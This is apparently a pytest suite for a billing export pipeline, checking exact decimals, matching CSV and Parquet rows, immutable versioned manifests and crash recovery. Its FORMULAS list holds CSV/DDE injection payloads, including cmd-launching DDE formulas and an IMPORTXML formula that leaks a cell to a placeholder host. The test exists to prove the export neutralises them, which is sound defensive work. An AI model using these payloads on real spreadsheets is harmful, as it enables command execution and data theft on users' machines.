"""What finance receives: the same rows in both formats, exact, harmless, and never changed once written."""

import csv
import hashlib
import io
import json
import shutil
import subprocess
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines import failpoints
from pipelines.billing import daily_export
from pipelines.billing.daily_export import SCHEMA, Exported, export_days, harmless, to_csv, to_parquet

MARCH = [date(2026, 3, day) for day in range(1, 6)]
NOW = datetime(2026, 4, 1, tzinfo=UTC)
TINY = Decimal("0.00000000000000000001")
LARGE = Decimal("999999999999999999.99999999999999999999")


@pytest.fixture
def marts() -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect() as connection:
        connection.execute("CREATE SCHEMA marts")
        connection.execute(
            """
            CREATE TABLE marts.mart_daily_billing (
                tenant_id VARCHAR, user_id VARCHAR, model VARCHAR, charge_class VARCHAR, unit VARCHAR,
                unpriced_turns BIGINT, quantity DECIMAL(38, 20), usage_date DATE, _ingest_seq BIGINT
            )
            """
        )
        yield connection


def used(
    marts: duckdb.DuckDBPyConnection, day: date, quantity: object = 5, *, tenant: str = "acme", user: str = "ada",
    model: str = "m", charge: str = "output", unpriced: int = 0,
) -> None:  # fmt: skip
    unit = "usd" if charge == "reported_cost" else "tokens"
    amount = None if quantity is None else str(quantity)
    marts.execute(
        "INSERT INTO marts.mart_daily_billing VALUES (?, ?, ?, ?, ?, ?, ?, ?, 1)",
        [tenant, user, model, charge, unit, unpriced, amount, day],
    )


def exported(marts: duckdb.DuckDBPyConnection, folder: Path, minute: int = 0) -> dict[date, Exported]:
    return {day.day: day for day in export_days(marts, folder, now=NOW + timedelta(minutes=minute))}


def in_csv(folder: Path) -> list[dict[str, str]]:
    with (folder / "billing.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def in_parquet(folder: Path) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = pq.read_table(folder / "billing.parquet").to_pylist()
    return found


def manifest_of(folder: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((folder / "manifest.json").read_text("utf-8"))
    return found


def is_true(export: Exported) -> None:
    """The manifest says what is in the files, and the files say the same."""
    manifest, text, rows = manifest_of(export.folder), in_csv(export.folder), in_parquet(export.folder)
    assert manifest["usage_date"] == export.day.isoformat()
    assert export.folder.name == f"v{manifest['version']:04}"
    assert export.folder.parent.name == f"usage_date={export.day.isoformat()}"
    assert {path.name for path in export.folder.iterdir()} == {"billing.csv", "billing.parquet", "manifest.json"}
    assert [item["name"] for item in manifest["files"]] == ["billing.csv", "billing.parquet"]
    for item in manifest["files"]:
        data = (export.folder / item["name"]).read_bytes()
        assert item["sha256"] == hashlib.sha256(data).hexdigest()
        assert item["bytes"] == len(data)
        assert item["rows"] == len(rows) == len(text) == export.rows
    assert [column["name"] for column in manifest["columns"]] == SCHEMA.names
    assert pq.read_schema(export.folder / "billing.parquet").equals(SCHEMA)
    assert (export.folder / "billing.csv").read_bytes().splitlines()[0] == ",".join(SCHEMA.names).encode()
    totals: dict[str, Fraction] = {}  # no precision to choose
    for line, row in zip(text, rows, strict=True):
        quantity = line.pop("quantity")
        assert set(quantity) <= set("0123456789.-"), "no exponent, no thousands"
        assert (Decimal(quantity) if quantity else None) == row["quantity"]
        assert line == {name: str(value) for name, value in row.items() if name != "quantity"}
        totals[row["charge_class"]] = totals.get(row["charge_class"], Fraction(0)) + Fraction(quantity or 0)
    told = {name: Fraction(amount) for name, amount in manifest["totals"].items()}
    assert told == totals | {"unpriced_turns": sum(row["unpriced_turns"] for row in rows)}


# one export -----------------------------------------------------------------------------------------------------------


def test_both_formats_hold_the_same_rows(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    used(marts, MARCH[0], 100, charge="output")
    used(marts, MARCH[0], 0, charge="cache_read")
    used(marts, MARCH[0], "0.10000000000000000001", charge="reported_cost", unpriced=2)
    used(marts, MARCH[0], None, charge="reported_cost", model="local", unpriced=3)
    used(marts, MARCH[0], 7, tenant="a,b", user='quo"ted\nline', model="\u00fcml\u00e4ut")
    export = exported(marts, tmp_path)[MARCH[0]]
    assert export.is_new
    is_true(export)
    lines = in_csv(export.folder)
    assert [(line["tenant_id"], line["model"], line["charge_class"]) for line in lines] == [
        ("a,b", "\u00fcml\u00e4ut", "output"), ("acme", "local", "reported_cost"), ("acme", "m", "cache_read"),
        ("acme", "m", "output"), ("acme", "m", "reported_cost"),
    ]  # fmt: skip
    assert [line["quantity"] for line in lines] == ["7", "", "0", "100", "0.10000000000000000001"]
    assert manifest_of(export.folder)["totals"] == {
        "cache_read": "0", "output": "107", "reported_cost": "0.10000000000000000001", "unpriced_turns": "5"
    }  # fmt: skip


@pytest.mark.parametrize(
    ("amount", "written"),
    [
        (TINY, "0.00000000000000000001"), (LARGE, "999999999999999999.99999999999999999999"), (0, "0"),
        ("0.00000000000000000000", "0"), (10**17, "1" + "0" * 17), ("1E+5", "100000"), (1000, "1000"),
        ("123456789012.34567890123456789012", "123456789012.34567890123456789012"), ("-1.5", "-1.5"),
    ],
)  # fmt: skip
def test_an_amount_is_written_in_digits(
    marts: duckdb.DuckDBPyConnection, tmp_path: Path, amount: object, written: str
) -> None:
    used(marts, MARCH[0], amount, charge="reported_cost")
    export = exported(marts, tmp_path)[MARCH[0]]
    assert in_csv(export.folder)[0]["quantity"] == written
    is_true(export)


def test_totals_are_not_rounded(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    """Python's decimals keep 28 digits when they are added, unless told otherwise; a column here has 38."""
    for user, amount in (("a", "987654321987654321.00000000000000000001"), ("b", TINY), ("c", LARGE), ("d", 1)):
        used(marts, MARCH[0], amount, charge="reported_cost", user=user)
    export = exported(marts, tmp_path)[MARCH[0]]
    assert manifest_of(export.folder)["totals"]["reported_cost"] == "1987654321987654322.00000000000000000001"
    is_true(export)


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    " \n-1",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\u00a0=1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=1;=2",
    "\t\t=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_runs_nothing(marts: duckdb.DuckDBPyConnection, tmp_path: Path, text: str) -> None:
    """In every column that holds text, and alike in both formats."""
    used(marts, MARCH[0], -3, tenant=text, user=text, model=text)
    export = exported(marts, tmp_path)[MARCH[0]]
    for row in (*in_csv(export.folder), *in_parquet(export.folder)):
        assert [row[name] for name in ("tenant_id", "user_id", "model")] == [f"'{text}"] * 3
    assert in_csv(export.folder)[0]["quantity"] == "-3", "a negative number is a number"
    assert not (export.folder / "billing.csv").read_text("utf-8").splitlines()[1].startswith(tuple("=+-@"))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
def test_an_office_program_calculates_nothing(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    """Opened and saved again by the program itself, each text is still the text, none the result of a formula."""
    for number, text in enumerate(FORMULAS):
        used(marts, MARCH[0], number, model=text)
    export = exported(marts, tmp_path)[MARCH[0]]
    command = ["soffice", f"-env:UserInstallation={(tmp_path / 'office').as_uri()}", "--headless", "--convert-to"]
    command += ["fods", "--outdir", str(tmp_path), str(export.folder / "billing.csv")]
    subprocess.run(command, check=True, timeout=120, capture_output=True)
    saved = (tmp_path / "billing.fods").read_text("utf-8")
    assert "usage_date" in saved
    assert "table:formula" not in saved


def test_a_line_end_starts_no_cell(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    used(marts, MARCH[0], model="m\r=1", user="u\n=1", tenant="\r=1")
    export = exported(marts, tmp_path)[MARCH[0]]
    is_true(export)
    (line,) = in_csv(export.folder)
    assert (line["model"], line["user_id"], line["tenant_id"]) == ("m =1", "u\n=1", "' =1")


@pytest.mark.parametrize("text", ["", "m", "anthropic/glm-5.1", "k1_0", "a=b", "1-2", "'quoted", "UNATTRIBUTED"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_the_same_rows_are_the_same_bytes(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    """Whatever order the warehouse holds them in."""
    users = [f"u{number}" for number in range(50)]
    for user in users:
        used(marts, MARCH[0], user.removeprefix("u"), user=user)
    first = exported(marts, tmp_path / "one")[MARCH[0]].folder
    marts.execute("CREATE TABLE aside AS FROM marts.mart_daily_billing ORDER BY hash(user_id)")
    marts.execute("DELETE FROM marts.mart_daily_billing")
    marts.execute("INSERT INTO marts.mart_daily_billing FROM aside")
    second = exported(marts, tmp_path / "two")[MARCH[0]].folder
    for name in ("billing.csv", "billing.parquet", "manifest.json"):
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_an_empty_day_has_a_header_and_a_schema() -> None:
    assert to_csv([]).decode() == ",".join(SCHEMA.names) + "\n"
    empty = pq.read_table(io.BytesIO(to_parquet([])))
    assert empty.schema.equals(SCHEMA)
    assert empty.num_rows == 0


def test_no_published_column_is_a_float() -> None:
    assert SCHEMA.field("quantity").type == pa.decimal128(38, 20)
    assert not [field.name for field in SCHEMA if pa.types.is_floating(field.type)]


# versions -------------------------------------------------------------------------------------------------------------


def written(exports: dict[date, Exported]) -> list[tuple[int, str, int]]:
    """Day, version and rows of what was written now."""
    return [(day.day, export.folder.name, export.rows) for day, export in exports.items() if export.is_new]


def snapshot(folder: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_no_usage_is_no_export(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    assert export_days(marts, tmp_path) == []
    assert list(tmp_path.iterdir()) == []


def test_an_unchanged_day_is_not_written_again(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    used(marts, MARCH[0])
    assert written(exported(marts, tmp_path)) == [(1, "v0001", 1)]
    before = snapshot(tmp_path)
    again = exported(marts, tmp_path, minute=1)
    assert written(again) == []
    assert again[MARCH[0]].folder.name == "v0001"
    assert snapshot(tmp_path) == before


def test_a_changed_day_gets_the_next_version_beside_the_old_one(
    marts: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    used(marts, MARCH[0])
    used(marts, MARCH[1])
    exported(marts, tmp_path)
    before = snapshot(tmp_path)
    marts.execute("UPDATE marts.mart_daily_billing SET quantity = quantity + ? WHERE usage_date = ?", [TINY, MARCH[0]])
    changed = exported(marts, tmp_path, minute=1)
    assert written(changed) == [(1, "v0002", 1)]
    assert snapshot(tmp_path).items() >= before.items(), "what was written stays as it was, to the byte"
    assert manifest_of(changed[MARCH[0]].folder)["supersedes"] == "v0001"
    marts.execute("UPDATE marts.mart_daily_billing SET quantity = 5")
    assert written(exported(marts, tmp_path, minute=2)) == [(1, "v0003", 1)], "as it was before, and yet a new version"
    for day in exported(marts, tmp_path).values():
        is_true(day)


def test_many_versions_keep_their_order(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    used(marts, MARCH[0])
    for version in range(1, 13):
        marts.execute("UPDATE marts.mart_daily_billing SET quantity = ?", [version])
        assert written(exported(marts, tmp_path)) == [(1, f"v{version:04}", 1)]


def test_days_without_usage_are_exported_empty(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    used(marts, MARCH[0])
    used(marts, MARCH[3])
    days = exported(marts, tmp_path)
    assert written(days) == [(1, "v0001", 1), (2, "v0001", 0), (3, "v0001", 0), (4, "v0001", 1)]
    for export in days.values():
        is_true(export)
    assert manifest_of(days[MARCH[1]].folder)["totals"] == {"unpriced_turns": "0"}
    assert written(exported(marts, tmp_path)) == []


@pytest.mark.parametrize("lost", [MARCH[0], MARCH[1], MARCH[2]])
def test_a_day_that_lost_its_usage_says_so(marts: duckdb.DuckDBPyConnection, tmp_path: Path, lost: date) -> None:
    """Also the first and the last: whoever holds the old version must learn that it is void."""
    for day in MARCH[:3]:
        used(marts, day)
    exported(marts, tmp_path)
    marts.execute("DELETE FROM marts.mart_daily_billing WHERE usage_date = ?", [lost])
    days = exported(marts, tmp_path)
    assert written(days) == [(lost.day, "v0002", 0)]
    is_true(days[lost])
    assert written(exported(marts, tmp_path)) == []


def test_everything_lost_is_exported_too(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    used(marts, MARCH[0])
    exported(marts, tmp_path)
    marts.execute("DELETE FROM marts.mart_daily_billing")
    assert written(exported(marts, tmp_path)) == [(1, "v0002", 0)]


class Killed(BaseException):
    pass


@pytest.mark.parametrize("versions_before", [0, 1])
def test_a_version_that_was_cut_off_is_written_again(
    marts: duckdb.DuckDBPyConnection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, versions_before: int
) -> None:
    """The manifest is the last file, and every file appears whole."""
    used(marts, MARCH[0], 1)
    if versions_before:
        exported(marts, tmp_path)
        marts.execute("UPDATE marts.mart_daily_billing SET quantity = 2")
    finished = snapshot(tmp_path)
    for fatal in range(1, 9):  # three files, each written, synced and moved; the ninth point is the whole version
        done = 0

        def dying(_: str, fatal: int = fatal) -> None:
            nonlocal done
            done += 1
            if done == fatal:
                raise Killed

        with monkeypatch.context() as patches:
            patches.setattr(failpoints, "hook", dying)
            with pytest.raises(Killed):
                exported(marts, tmp_path)
        cut_off = tmp_path / "daily" / "usage_date=2026-03-01" / f"v{versions_before + 1:04}"
        assert not (cut_off / "manifest.json").exists()
        assert snapshot(tmp_path).items() >= finished.items()
    export = exported(marts, tmp_path)[MARCH[0]]
    assert export.is_new
    assert export.folder == cut_off
    is_true(export)


def test_totals_of_rows() -> None:
    def rows(*amounts: Sequence[Any]) -> list[dict[str, Any]]:
        return [{"charge_class": name, "quantity": amount, "unpriced_turns": turns} for name, amount, turns in amounts]

    assert daily_export.totals([]) == {"unpriced_turns": "0"}
    found = daily_export.totals(rows(("a", TINY, 1), ("a", None, 2), ("b", None, 0), ("a", LARGE, 0)))
    assert found == {"a": "1000000000000000000", "b": "0", "unpriced_turns": "3"}
